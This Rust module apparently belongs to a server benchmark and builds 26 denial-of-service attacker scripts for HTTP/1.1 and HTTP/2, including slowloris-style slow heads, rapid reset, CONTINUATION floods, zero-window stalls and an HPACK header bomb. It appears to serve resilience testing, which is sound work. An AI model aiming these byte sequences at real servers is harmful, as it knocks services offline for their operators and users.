//! The scripts of the attackers.

use crate::http2::{self, MAX_WINDOW, streams};
use crate::serving::LARGE;

/// A kind of attacker.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum AttackKind {
    /// Connects and sends nothing.
    Silent,
    /// Sends a head that never ends, one byte a beat.
    SlowHead,
    /// Sends a head of nearly the maximum length, then one byte a beat.
    LongHead,
    /// Sends a body, one byte a beat.
    SlowBody,
    /// Sends a head with many long headers, then a body, one byte a beat.
    LongHeadAndBody,
    /// Sends nearly all of a large body, then nothing.
    LargeBody,
    /// Sends a body in chunks of one byte, a thousand bytes a beat.
    TinyChunks,
    /// Requests a large response and reads nothing.
    NoReader,
    /// Requests a large response and reads so little that it never pauses for long.
    SlowReader,
    /// Sends requests without end and reads no response.
    Pipeliner,
    /// Sends headers without end.
    HeaderFlood,
    /// Connects, and disconnects a beat later.
    Visitor,
    /// In HTTP/2, as all that follow: sends the preface and nothing.
    Http2Silent,
    /// Sends a head that never ends, a CONTINUATION a beat.
    Http2SlowHead,
    /// Opens a hundred streams and sends a byte of each body a beat.
    Http2SlowBodies,
    /// Opens streams and sends nearly all that their windows allow, then nothing.
    Http2LargeBodies,
    /// Requests large responses and allows no byte of them.
    Http2ZeroWindow,
    /// Requests large responses and allows single bytes of them.
    Http2TinyWindows,
    /// Requests a hundred large responses, allows all of them and reads nothing.
    Http2NoReader,
    /// The same, and reads so little that it never pauses for long.
    Http2SlowReader,
    /// Opens streams and cancels them as fast as it can.
    Http2RapidReset,
    /// Opens streams and cancels them at a rate that the server tolerates.
    Http2PatientReset,
    /// Sends PINGs without end and reads no acknowledgement.
    Http2Pings,
    /// Sends SETTINGS without end and reads no acknowledgement.
    Http2Settings,
    /// Sends empty CONTINUATIONs without end.
    Http2Continuations,
    /// Sends small header blocks that become many headers, at a rate that the server tolerates.
    Http2HeaderBomb,
}

/// Bytes per beat of a flood.
const FLOOD: usize = 64 * 1024;

/// The actions of an attacker on its connection.
#[derive(Debug)]
pub(super) struct Script {
    /// Sent first, as fast as the server takes it.
    pub(super) start: Vec<u8>,
    /// Sent afterwards, repeatedly.
    pub(super) more: Vec<u8>,
    /// Bytes of `more` per beat.
    pub(super) share: usize,
    pub(super) reading: Reading,
    /// Beats after which it disconnects; `None` to stay as long as possible.
    pub(super) beats: Option<u32>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Reading {
    All,
    /// At most this many bytes a beat.
    Sips(usize),
    Nothing,
}

impl AttackKind {
    pub(crate) const ALL: [Self; 26] = [
        Self::Silent,
        Self::SlowHead,
        Self::LongHead,
        Self::SlowBody,
        Self::LongHeadAndBody,
        Self::LargeBody,
        Self::TinyChunks,
        Self::NoReader,
        Self::SlowReader,
        Self::Pipeliner,
        Self::HeaderFlood,
        Self::Visitor,
        Self::Http2Silent,
        Self::Http2SlowHead,
        Self::Http2SlowBodies,
        Self::Http2LargeBodies,
        Self::Http2ZeroWindow,
        Self::Http2TinyWindows,
        Self::Http2NoReader,
        Self::Http2SlowReader,
        Self::Http2RapidReset,
        Self::Http2PatientReset,
        Self::Http2Pings,
        Self::Http2Settings,
        Self::Http2Continuations,
        Self::Http2HeaderBomb,
    ];

    /// Whether it speaks HTTP/2.
    pub(crate) fn is_http2(self) -> bool {
        self >= Self::Http2Silent
    }

    /// Streams of the attackers that allow nothing or little. The responses of a connection wait for
    /// each other, so these attackers stay for as many timeouts.
    pub(crate) const WAITING: u32 = 10;

    /// Whether the server serves it like any client, for as long as it likes.
    pub(crate) fn may_stay(self) -> bool {
        matches!(self, Self::Http2PatientReset | Self::Http2HeaderBomb)
    }

    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::Silent => "never send",
            Self::SlowHead => "slow head",
            Self::LongHead => "long slow head",
            Self::SlowBody => "slow body",
            Self::LongHeadAndBody => "long head, slow body",
            Self::LargeBody => "large slow body",
            Self::TinyChunks => "1-byte chunks",
            Self::NoReader => "never read",
            Self::SlowReader => "slow reader",
            Self::Pipeliner => "pipeline, never read",
            Self::HeaderFlood => "header flood",
            Self::Visitor => "come and go",
            Self::Http2Silent => "h2 silent",
            Self::Http2SlowHead => "h2 slow head",
            Self::Http2SlowBodies => "h2 slow bodies",
            Self::Http2LargeBodies => "h2 large slow bodies",
            Self::Http2ZeroWindow => "h2 zero window",
            Self::Http2TinyWindows => "h2 1-byte windows",
            Self::Http2NoReader => "h2 never read",
            Self::Http2SlowReader => "h2 slow reader",
            Self::Http2RapidReset => "h2 rapid reset",
            Self::Http2PatientReset => "h2 patient reset",
            Self::Http2Pings => "h2 PING flood",
            Self::Http2Settings => "h2 SETTINGS flood",
            Self::Http2Continuations => "h2 CONTINUATIONs",
            Self::Http2HeaderBomb => "h2 header bomb",
        }
    }

    pub(super) fn script(self) -> Script {
        let script = |start: &str, more: &str, share: usize| Script {
            start: start.into(),
            more: more.into(),
            share,
            reading: Reading::All,
            beats: None,
        };
        let large = format!("GET {LARGE} HTTP/1.1\r\nHost: bench\r\n\r\n");
        let get = "GET / HTTP/1.1\r\nHost: bench\r\n";
        let post = "POST / HTTP/1.1\r\nHost: bench\r\n";
        match self {
            Self::Silent => script("", "", 0),
            Self::SlowHead => script(&format!("{get}A: "), "b", 1),
            Self::LongHead => script(&format!("{get}A: {}", "b".repeat(15 * 1024)), "b", 1),
            Self::SlowBody => script(&format!("{post}Content-Length: 1000000\r\n\r\n"), "b", 1),
            Self::LargeBody => {
                let head = format!("{post}Content-Length: {}\r\n\r\n", 128 * 1024 + 1);
                script(&(head + &"b".repeat(128 * 1024)), "", 0)
            }
            Self::LongHeadAndBody => {
                let field = |number| format!("A{number}: {}\r\n", "b".repeat(150));
                let fields: String = (0..95).map(field).collect();
                let length = "Content-Length: 1000000\r\n\r\n";
                script(&format!("{post}{fields}{length}"), "b", 1)
            }
            Self::TinyChunks => {
                let head = format!("{post}Transfer-Encoding: chunked\r\n\r\n");
                script(&head, &"1\r\nb\r\n".repeat(1000), 6000)
            }
            Self::NoReader => Script {
                reading: Reading::Nothing,
                ..script(&large, "", 0)
            },
            Self::SlowReader => Script {
                reading: Reading::Sips(1500),
                ..script(&large, "", 0)
            },
            Self::Pipeliner => Script {
                reading: Reading::Nothing,
                ..script("", &format!("{get}\r\n").repeat(1000), FLOOD)
            },
            Self::HeaderFlood => script(get, &"A: b\r\n".repeat(1000), FLOOD),
            Self::Visitor => Script {
                beats: Some(2),
                ..script("", "", 0)
            },
            _ => self.http2_script(),
        }
    }

    fn http2_script(self) -> Script {
        /// As many streams as a server usually allows.
        const STREAMS: u32 = 100;
        const WAITING: u32 = AttackKind::WAITING;
        let script = |start: Vec<u8>, more: Vec<u8>, share: usize| Script {
            start,
            more,
            share,
            reading: Reading::All,
            beats: None,
        };
        let preface = |window: u32| http2::preface(window);
        let join = |frames: &mut dyn Iterator<Item = Vec<u8>>| frames.flatten().collect::<Vec<_>>();
        let large = join(&mut streams(STREAMS).map(|stream| http2::get(stream, LARGE)));
        let some = join(&mut streams(WAITING).map(|stream| http2::get(stream, LARGE)));
        let all_windows = http2::window_update(0, MAX_WINDOW - 65_535);
        // A response would make a request count as useful.
        let cancelled = |stream| [http2::post(stream), http2::cancel(stream)].concat();
        match self {
            Self::Http2SlowHead => {
                let head = http2::get_with(1, b"\0\x01a\x7f\x81\x7f", false);
                let start = [preface(65_535), head].concat();
                script(start, http2::continuation(1, b"b"), 10)
            }
            Self::Http2SlowBodies => {
                let heads = join(&mut streams(STREAMS).map(http2::post));
                let bytes = join(&mut streams(STREAMS).map(|stream| http2::data(stream, b"b")));
                let share = bytes.len();
                script([preface(65_535), heads].concat(), bytes, share)
            }
            Self::Http2LargeBodies => {
                let content = [b'b'; 16_000];
                let post = |stream| [http2::post(stream), http2::data(stream, &content).repeat(4)];
                let bodies = join(&mut streams(10).flat_map(post));
                script([preface(65_535), bodies].concat(), Vec::new(), 0)
            }
            Self::Http2ZeroWindow => script([preface(0), some].concat(), Vec::new(), 0),
            Self::Http2TinyWindows => {
                let credit = |stream| http2::window_update(stream, 1);
                let bytes = join(&mut streams(WAITING).map(credit));
                let share = bytes.len();
                script([preface(0), some].concat(), bytes, share)
            }
            Self::Http2NoReader | Self::Http2SlowReader => Script {
                reading: match self {
                    Self::Http2NoReader => Reading::Nothing,
                    _ => Reading::Sips(1500),
                },
                ..script(
                    [preface(MAX_WINDOW), all_windows, large].concat(),
                    Vec::new(),
                    0,
                )
            },
            Self::Http2RapidReset => {
                let all = join(&mut streams(10_000).map(cancelled));
                script(preface(65_535), all, FLOOD)
            }
            Self::Http2PatientReset => {
                let all = join(&mut streams(10_000).map(cancelled));
                // Fewer than what the server forgives.
                script(preface(65_535), all, 3 * cancelled(1).len())
            }
            Self::Http2Pings | Self::Http2Settings => {
                let frame = match self {
                    Self::Http2Pings => http2::ping(),
                    _ => http2::settings(),
                };
                Script {
                    reading: Reading::Nothing,
                    ..script(preface(65_535), frame.repeat(1000), FLOOD)
                }
            }
            Self::Http2Continuations => {
                let start = [preface(65_535), http2::get_with(1, b"", false)].concat();
                script(start, http2::continuation(1, b"").repeat(1000), FLOOD)
            }
            Self::Http2HeaderBomb => {
                // An entry of the table, and references to it.
                let bomb = [&b"\x40\x01a\0"[..], &[0xbe; 12_000]].concat();
                let bombs = streams(1000).map(|stream| http2::get_with(stream, &bomb, true));
                script(preface(65_535), join(&mut { bombs }), FLOOD)
            }
            _ => script(preface(65_535), Vec::new(), 0),
        }
    }
}
